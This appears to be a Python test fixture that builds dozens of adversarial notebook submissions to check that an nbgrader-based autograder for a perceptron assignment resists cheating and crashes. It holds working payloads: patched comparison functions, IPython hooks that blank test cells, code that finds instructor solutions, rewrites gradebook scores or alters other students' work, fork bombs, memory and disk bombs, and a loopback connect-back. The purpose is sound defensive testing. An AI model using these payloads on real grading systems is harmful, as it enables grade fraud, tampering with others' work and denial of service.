"""Hostile and broken submissions of 01-perzeptron, one per trick, built from the released notebook.

Each trick is named after what it does. ``expect`` says what a grader that holds must give it:
``"blank"`` — no more than the blank release (0 points), ``"full"`` — full marks (correct work with
noise, or a repairable file). Tricks that cheat also carry wrong answers, so that any effect of the
trick shows as points. The corpus is built at test time (one of them carries a 50 MB output); the
same builder feeds ``benchmarks/adversarial_vs_nbgrader.py``, which runs it through plain nbgrader.

A trick that leaves a mark writes a file whose name starts with ``CANARY``; the tests look for such
files in the course, the system temp folder and the home folder after grading.
"""

from __future__ import annotations

import copy
import hashlib
import json
import socket
import tempfile
import threading
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

AID = "01-perzeptron"
NOTEBOOK = "perzeptron.ipynb"
CANARY = "CANARY"
SUBMITTED_MARKER = "graders-adversarial"  # in the command line of every process a trick leaves running

# Wrong answers of the right shapes: a trick that gets them points has fooled the grader.
WRONG = '''
import numpy as np
def gewichtete_summe(x, w, b): return np.zeros(np.asarray(x).shape[:-1])
def sprung(z): return np.zeros_like(np.asarray(z, dtype=float))
def sigmoid(z): return np.zeros_like(np.asarray(z, dtype=float))
def relu(z): return np.zeros_like(np.asarray(z, dtype=float))
def vorhersage(x, w, b): return np.zeros(np.asarray(x).shape[:-1])
def perzeptron_schritt(w, b, x, y, lr): return np.asarray(w), b
def trainiere_perzeptron(X, y, lr, epochen): return np.zeros(np.asarray(X).shape[1]), 0.0
def neuron_torch(x, w, b):
    import torch
    return torch.zeros(x.shape[0])
def neuron_keras(x, w, b): return np.zeros((len(x), 1), dtype="float32")
genauigkeit = 0.5
'''

# How a student finds the course from the kernel's working directory (nbgrader runs it inside
# autograded/<student>/<aid>/) or by searching the machine.
FIND = '''
import os, pathlib
def _course_files(name, part=None, max_dirs=20000):
    """Files called ``name`` (with a folder ``part`` in their path) in the cwd's parents, home, /."""
    here = pathlib.Path.cwd()
    seen, found = 0, []
    for root in [*here.parents, pathlib.Path.home(), pathlib.Path("/")]:
        for dirpath, dirnames, filenames in os.walk(root):
            seen += 1
            if seen > max_dirs:
                return found
            dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", ".venv", "node_modules")]
            if name in filenames and (part is None or part in pathlib.Path(dirpath).parts):
                found.append(os.path.join(dirpath, name))
        if found:
            return found
    return found
'''

EXEC_SOLUTIONS = '''
import json
def _exec_solutions(path):
    for cell in json.load(open(path))["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            exec("".join(cell["source"]), globals())
'''


@dataclass(frozen=True)
class Trick:
    name: str
    expect: str  # "blank" or "full"
    build: Callable[["Sources", Path], None]  # writes the submission folder
    what: str


@dataclass
class Sources:
    release: dict
    solution: dict
    port: int = 9  # a loopback port the test listens on (network tricks)


def load_sources(root: Path, port: int = 9) -> Sources:
    return Sources(json.loads((root / "release" / AID / NOTEBOOK).read_text(encoding="utf-8")),
                   json.loads((root / "solutions" / AID / NOTEBOOK).read_text(encoding="utf-8")), port)


def _is_solution(cell: dict) -> bool:
    return bool(cell.get("metadata", {}).get("nbgrader", {}).get("solution"))


def _is_test(cell: dict) -> bool:
    return bool(cell.get("metadata", {}).get("nbgrader", {}).get("grade")) and cell["cell_type"] == "code"


def _write(folder: Path, nb: dict, name: str = NOTEBOOK) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(json.dumps(nb, indent=1), encoding="utf-8")


def _with_payload(src: Sources, payload: str, answers: str = WRONG) -> dict:
    """The release with ``payload`` and ``answers`` in its first solution cell, the others empty."""
    nb = copy.deepcopy(src.release)
    first = True
    for cell in nb["cells"]:
        if _is_solution(cell):
            cell["source"] = (payload + "\n" + answers) if first else "pass\n"
            first = False
    return nb


def payload(code: str, answers: str = WRONG) -> Callable[[Sources, Path], None]:
    return lambda src, folder: _write(folder, _with_payload(src, code, answers))


def _correct(src: Sources) -> dict:
    nb = copy.deepcopy(src.solution)
    for cell in nb["cells"]:
        cell.pop("outputs", None) if cell["cell_type"] != "code" else cell.update(outputs=[], execution_count=None)
    return nb


def _correct_with(src: Sources, code: str) -> dict:
    nb = _correct(src)
    next(c for c in nb["cells"] if _is_solution(c))["source"] += "\n" + code
    return nb


def _edit_tests(edit: Callable[[list[dict]], list[dict]]) -> Callable[[Sources, Path], None]:
    def build(src: Sources, folder: Path) -> None:
        nb = _with_payload(src, "")
        nb["cells"] = edit(nb["cells"])
        _write(folder, nb)
    return build


def _blank_tests(cells: list[dict]) -> list[dict]:
    for cell in cells:
        if _is_test(cell):
            cell["source"] = "pass\n"
    return cells


def _delete_tests(cells: list[dict]) -> list[dict]:
    return [c for c in cells if not _is_test(c)]


def _tests_first(cells: list[dict]) -> list[dict]:
    return [c for c in cells if _is_test(c)] + [c for c in cells if not _is_test(c)]


def _duplicate_tests_passing(cells: list[dict]) -> list[dict]:
    out = []
    for cell in cells:
        if _is_test(cell):
            fake = copy.deepcopy(cell)
            fake["source"] = "pass\n"
            out.append(fake)
        out.append(cell)
    return out


def _inflate_points(cells: list[dict]) -> list[dict]:
    for cell in cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if _is_test(cell):
            meta["points"] = 1000
            cell["source"] = "pass\n"
        if meta.get("solution"):
            meta.update(grade=True, points=1000, grade_id=meta.get("grade_id", "x") + "_extra")
    return cells


def _tests_as_solutions(cells: list[dict]) -> list[dict]:
    for cell in cells:
        if _is_test(cell):
            cell["metadata"]["nbgrader"]["solution"] = True
            cell["source"] = "pass\n"
    return cells


def _raw(data: bytes) -> Callable[[Sources, Path], None]:
    def build(src: Sources, folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / NOTEBOOK).write_bytes(data)
    return build


def _missing(src: Sources, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)


def _renamed(src: Sources, folder: Path) -> None:
    _write(folder, _correct(src), "Perzeptron_final(1).ipynb")


def _extra_notebooks(src: Sources, folder: Path) -> None:
    _write(folder, _correct(src))
    _write(folder, _with_payload(src, ""), "perzeptron_alt.ipynb")
    (folder / "notizen.ipynb").write_text("kein JSON", encoding="utf-8")


def _nbformat_v3(src: Sources, folder: Path) -> None:
    import nbformat

    nb = nbformat.from_dict(_correct(src))
    folder.mkdir(parents=True, exist_ok=True)
    (folder / NOTEBOOK).write_text(nbformat.writes(nbformat.v3.convert.downgrade(nb)), encoding="utf-8")


def _huge_output(src: Sources, folder: Path) -> None:
    nb = _correct(src)
    cell = next(c for c in nb["cells"] if _is_solution(c))
    cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * (50 << 20)}]
    _write(folder, nb)


def _noisy(code: str) -> Callable[[Sources, Path], None]:
    return lambda src, folder: _write(folder, _correct_with(src, code))


def _network(src: Sources, folder: Path) -> None:
    _write(folder, _with_payload(src, f'''
import socket
for _host in ("127.0.0.1", "localhost"):
    try:
        socket.create_connection((_host, {src.port}), timeout=2).sendall(b"{CANARY} hidden tests please")
    except OSError:
        pass
'''))


TRICKS: list[Trick] = [
    # the controls
    Trick("blank_release", "blank", lambda src, folder: _write(folder, src.release), "die unbearbeitete Aufgabe"),
    Trick("correct_solution", "full", lambda src, folder: _write(folder, _correct(src)), "die Musterlösung"),
    # fooling the comparison inside the kernel
    Trick("patch_np_allclose", "blank", payload(
        "np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: np.True_\n"
        "np.array_equal = lambda *a, **k: True"), "ersetzt np.allclose, np.isclose, np.array_equal"),
    Trick("patch_assert_allclose", "blank", payload(
        "import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None\n"
        "numpy.testing.assert_array_almost_equal = lambda *a, **k: None"), "ersetzt np.testing.assert_allclose"),
    Trick("lying_eq_object", "blank", payload('''
class _Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *a, **k): import numpy; return numpy.asarray(0.0)
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    __hash__ = float.__hash__
'''), "Rückgabe, deren __eq__ und Vergleiche immer 'ja' sagen"),
    Trick("lying_ndarray_subclass", "blank", payload('''
class _Lie(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, *a, **k): return np.zeros(1)
''', WRONG.replace("return np.zeros(np.asarray(x).shape[:-1])", "return np.zeros(np.asarray(x).shape[:-1]).view(_Lie)")),
        "ndarray-Unterklasse mit lügendem __eq__/__array_function__"),
    Trick("fake_graders_module", "blank", payload('''
import sys, types
_fake = types.ModuleType("graders")
for _name in ("check", "check_function", "compare", "assert_close"):
    setattr(_fake, _name, lambda *a, **k: None)
for _name in ("rand", "randn", "randint", "array"):
    setattr(_fake, _name, lambda *a, **k: 0)
sys.modules["graders"] = _fake
'''), "ersetzt das Modul graders durch eines, dessen check nichts prüft"),
    Trick("rebind_check_functions", "blank", payload(
        "check = check_function = lambda *a, **k: None\nassert_close = lambda *a, **k: None"),
        "bindet check und check_function an Funktionen, die nichts prüfen"),
    Trick("patch_graders_compare", "blank", payload('''
import graders, graders._compare as _c
class _Pass:
    passed, ok, message = True, True, ""
    def __bool__(self): return True
_c.compare = lambda *a, **k: _Pass()
graders.compare = _c.compare
graders.assert_close = lambda *a, **k: None
'''), "ersetzt die Toleranzvergleiche von graders im Kernel"),
    Trick("patch_plaindata_writer", "blank", payload('''
import graders._plaindata as _p
def _write_plain(tree, folder):
    import os, json
    os.makedirs(folder, exist_ok=True)
    json.dump({"passed": True, "kind": "reference"}, open(os.path.join(folder, "manifest.json"), "w"))
_p.write_plain = _write_plain
'''), "fälscht die Dateien, in denen der Kernel seine Werte zurückgibt"),
    # IPython and interpreter hooks
    Trick("input_transformer_blanks_cells", "blank", payload(
        "get_ipython().input_transformers_cleanup.append(lambda lines: [])"),
        "IPython-Input-Transformer, der alle folgenden Zellen leert"),
    Trick("ast_transformer_drops_asserts", "blank", payload('''
import ast
class _DropTests(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node):
        if isinstance(node.value, ast.Call) and getattr(node.value.func, "id", "") in ("check", "check_function"):
            return ast.Pass()
        return node
get_ipython().ast_transformers.append(_DropTests())
'''), "AST-Transformer, der asserts und checks entfernt"),
    Trick("custom_exception_handler", "blank", payload(
        "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"),
        "eigener Exception-Handler, der Fehler verschluckt"),
    Trick("patch_showtraceback_and_excepthook", "blank", payload(
        "import sys\nget_ipython().showtraceback = lambda *a, **k: None\nsys.excepthook = lambda *a: None\n"
        "get_ipython().showsyntaxerror = lambda *a, **k: None"), "unterdrückt Tracebacks und sys.excepthook"),
    Trick("patch_run_cell_skips_everything", "blank", payload('''
_shell = get_ipython()
_original = _shell.run_cell
def _skip(raw_cell, *a, **k):
    return _original("None", *a, **k)
_shell.run_cell = _skip
'''), "ersetzt run_cell: folgende Zellen (Tests) laufen nicht"),
    Trick("sys_settrace_hides_errors", "blank", payload('''
import sys
def _tracer(frame, event, arg):
    if event == "exception":
        return None
    return _tracer
sys.settrace(_tracer)
sys.setprofile(lambda *a: None)
'''), "sys.settrace/setprofile-Hooks"),
    # reading or changing what belongs to the instructor
    Trick("read_source_notebook_and_run_solution", "blank", payload(FIND + EXEC_SOLUTIONS + f'''
for _path in _course_files("{NOTEBOOK}", "source")[:1]:
    _exec_solutions(_path)
'''), "sucht source/ (mit Lösungen und versteckten Tests) und führt die Lösung aus"),
    Trick("read_solutions_folder", "blank", payload(FIND + EXEC_SOLUTIONS + f'''
for _path in _course_files("{NOTEBOOK}", "solutions")[:1]:
    _exec_solutions(_path)
'''), "sucht solutions/ und führt die Lösung aus"),
    Trick("read_reference_cache", "blank", payload(FIND + f'''
_found = _course_files("manifest.json", ".graders-cache", max_dirs=40000)
if _found:  # proof of access: a mark at the course root
    open(os.path.join(_found[0].split(".graders-cache")[0], "{CANARY}-cache-read"), "w").write(str(len(_found)))
'''), "sucht die Referenzwerte im Cache des Graders"),
    Trick("write_gradebook_scores", "blank", payload(FIND + '''
import sqlite3
for _path in _course_files("gradebook.db"):
    try:
        _db = sqlite3.connect(_path)
        _db.execute("UPDATE grade SET manual_score = 1000, extra_credit = 1000")
        _db.execute("CREATE TABLE IF NOT EXISTS canary_pwned (x)")
        _db.commit()
    except Exception:
        pass
'''), "schreibt volle Punkte direkt in gradebook.db"),
    Trick("overwrite_source_hidden_tests", "blank", payload(FIND + f'''
import json
for _path in _course_files("{NOTEBOOK}", "source") + _course_files("{NOTEBOOK}", "release"):
        try:
            _nb = json.load(open(_path))
            for _cell in _nb["cells"]:
                if _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade"):
                    _cell["source"] = "pass"
            json.dump(_nb, open(_path, "w"))
        except OSError:
            pass
'''), "überschreibt die versteckten Tests in source/"),
    Trick("plant_files_outside_scratch", "blank", payload(f'''
import os, pathlib, tempfile
_targets = [pathlib.Path.home(), pathlib.Path(tempfile.gettempdir()), pathlib.Path("/tmp"), pathlib.Path("/var/tmp"),
            *pathlib.Path.cwd().parents]
for _dir in _targets:
    try:
        (_dir / "{CANARY}-planted.txt").write_text("x")
    except OSError:
        pass
'''), "legt Dateien außerhalb des eigenen Ordners an (Kurs, Home, /tmp)"),
    Trick("tamper_other_submissions", "blank", payload(FIND + f'''
for _path in _course_files("{NOTEBOOK}", "submitted", max_dirs=40000):
        try:
            open(os.path.join(os.path.dirname(_path), "{CANARY}-tampered.txt"), "w").write("x")
            open(_path, "a").write(" ")
        except OSError:
            pass
'''), "verändert die Abgaben anderer Studierender"),
    Trick("network_connect_back", "blank", _network, "baut eine Verbindung über Loopback auf"),
    # editing the test cells of the submission
    Trick("edit_test_cells", "blank", _edit_tests(_blank_tests), "ersetzt die Testzellen durch pass"),
    Trick("delete_test_cells", "blank", _edit_tests(_delete_tests), "löscht die Testzellen"),
    Trick("reorder_tests_first", "blank", _edit_tests(_tests_first), "stellt die Testzellen an den Anfang"),
    Trick("duplicate_test_cells", "blank", _edit_tests(_duplicate_tests_passing),
          "dupliziert jede Testzelle als leere Kopie mit derselben grade_id"),
    Trick("inflate_points_metadata", "blank", _edit_tests(_inflate_points), "setzt die Punkte in den Metadaten auf 1000"),
    Trick("tests_marked_as_solutions", "blank", _edit_tests(_tests_as_solutions),
          "markiert Testzellen als Lösungszellen und leert sie"),
    # faults of the process
    Trick("os_exit_mid_notebook", "blank", payload("import os\nos._exit(0)"), "beendet den Kernel mit os._exit"),
    Trick("segfault", "blank", payload("import ctypes\nctypes.string_at(0)"), "Speicherzugriffsfehler"),
    Trick("memory_bomb", "blank", payload("import numpy as _np\n_hog = _np.ones((6 << 30) // 8)"),
          "belegt 6 GiB Speicher"),
    Trick("system_exit", "blank", payload("raise SystemExit(0)"), "SystemExit"),
    Trick("keyboard_interrupt", "blank", payload("raise KeyboardInterrupt"), "KeyboardInterrupt"),
    Trick("infinite_loop", "blank", payload("while True:\n    pass"), "Endlosschleife"),
    Trick("sleep_forever", "blank", payload("import time\ntime.sleep(10 ** 6)"), "schläft für immer"),
    Trick("waits_for_input", "blank", payload("input('Passwort: ')"), "wartet auf Eingabe"),
    Trick("fork_bomb", "blank", payload(f'''
import os, sys, time
for _i in range(600):
    try:
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
    except OSError:
        break
'''), "startet hunderte Prozesse"),
    Trick("daemon_outlives_grading", "blank", payload(f'''
import os, time, pathlib
_where = [str(p) for p in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents][:5]]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(4)
        for _dir in _where + ["/tmp"]:
            try:
                open(os.path.join(_dir, "{CANARY}-daemon.txt"), "w").write("x")
            except OSError:
                pass
        time.sleep(30)
    os._exit(0)
'''), "Daemon, der nach der Bewertung weiterläuft und schreibt"),
    Trick("kill_parent_process", "blank", payload("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
          "tötet den Elternprozess (Kernel-Manager bzw. Worker)"),
    Trick("close_all_descriptors", "blank", payload("import os\nos.closerange(3, 65536)"),
          "schließt alle Dateideskriptoren des Prozesses"),
    Trick("output_flood", "blank", payload("import sys\nfor _ in range(100):\n    sys.stdout.write('x' * (1 << 20))"),
          "schreibt 100 MB Ausgabe"),
    Trick("fill_disk", "blank", payload('''
_chunk = b"0" * (64 << 20)
for _n in range(5):
    try:
        with open(f"fill{_n}.bin", "wb") as _f:
            for _ in range(8):
                _f.write(_chunk)
    except OSError:
        break
'''), "schreibt 2,5 GB auf die Platte"),
    # broken files
    Trick("invalid_json", "blank", _raw(b'{"cells": [ kaputt'), "kein gültiges JSON"),
    Trick("empty_file", "blank", _raw(b""), "leere Datei"),
    Trick("missing_notebook", "blank", _missing, "Notebook fehlt"),
    Trick("renamed_notebook", "blank", _renamed, "richtige Lösung unter falschem Namen"),
    Trick("not_a_notebook", "blank", _raw(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64), "Binärdatei statt Notebook"),
    # correct work with noise: full marks
    Trick("correct_old_nbformat_v3", "full", _nbformat_v3, "richtige Lösung im alten Format nbformat 3"),
    Trick("correct_extra_notebooks", "full", _extra_notebooks, "richtige Lösung plus weitere Notebooks"),
    Trick("correct_50mb_output", "full", _huge_output, "richtige Lösung mit 50 MB gespeicherter Ausgabe"),
    Trick("correct_stderr_warnings", "full", _noisy(
        "import sys, warnings\nwarnings.warn('veraltet')\nprint('Warnung: ' * 1000, file=sys.stderr)"),
        "richtige Lösung, die auf stderr warnt"),
    Trick("correct_writes_scratch_files", "full", _noisy(
        "import os\nos.makedirs('zwischenstand', exist_ok=True)\nopen('zwischenstand/w.txt', 'w').write('1')"),
        "richtige Lösung, die Dateien in ihren Ordner schreibt"),
]


def build(root: Path, submitted: Path, port: int = 9, tricks: list[Trick] = TRICKS) -> list[Trick]:
    """Write one submission per trick to ``submitted/<trick>/<aid>/``; ``root`` holds release/ and solutions/.
    Canary files carry the trick's name, so that a mark found anywhere names its trick."""
    sources = load_sources(root, port)
    for trick in tricks:
        folder = submitted / trick.name / AID
        trick.build(sources, folder)
        for path in folder.glob("*.ipynb"):
            data = path.read_bytes()
            if CANARY.encode() in data:
                path.write_bytes(data.replace(CANARY.encode(), f"{CANARY}_{trick.name}".encode()))
    return tricks


# -- what the tests and the benchmark look at after grading ----------------------------------------

WATCHED = ("source", "release", "solutions", "submitted", "nbgrader_config.py")


def digest(root: Path, parts: tuple[str, ...] = WATCHED) -> dict[str, str]:
    """sha256 of every file of ``parts`` of the course: what no submission may change."""
    digests = {}
    for part in parts:
        path = root / part
        for file in [path] if path.is_file() else sorted(p for p in path.rglob("*") if p.is_file()):
            digests[str(file.relative_to(root))] = hashlib.sha256(file.read_bytes()).hexdigest()
    return digests


def marks(course_root: Path, trick: str = "") -> set[str]:
    """Canary files (of one trick, or of all) in the course, at the top of its parents, of the temp
    folders and of the home folder. The grader's own output folder (autograded/) is nbgrader's
    scratch and does not count."""
    pattern = f"{CANARY}_{trick}*" if trick else f"{CANARY}*"
    found = {str(p) for p in course_root.rglob(pattern) if "autograded" not in p.relative_to(course_root).parts}
    for folder in (*course_root.parents, Path(tempfile.gettempdir()), Path("/tmp"), Path("/var/tmp"), Path.home()):
        found |= {str(p) for p in folder.glob(pattern)}
    return found


def orphans(since: float, words: tuple[str, ...]) -> dict[int, str]:
    """Processes whose command line has one of ``words``, started after ``since`` (epoch seconds),
    that lost their parent: leftovers of a submission (other graders may run beside us)."""
    import psutil

    found = {}
    for proc in psutil.process_iter(["cmdline", "ppid", "create_time"]):
        cmdline = " ".join(proc.info["cmdline"] or [])
        if proc.info["ppid"] == 1 and proc.info["create_time"] >= since and any(w in cmdline for w in words):
            found[proc.pid] = cmdline
    return found


class Listener(threading.Thread):
    """A loopback server on the grader's machine: the network tricks must never reach it."""

    def __init__(self):
        super().__init__(daemon=True)
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[str] = []

    def run(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with conn:
                self.received.append(conn.recv(1024).decode(errors="replace"))

    def reached_by(self, trick: str) -> bool:
        return any(f"{CANARY}_{trick}" in text for text in self.received)
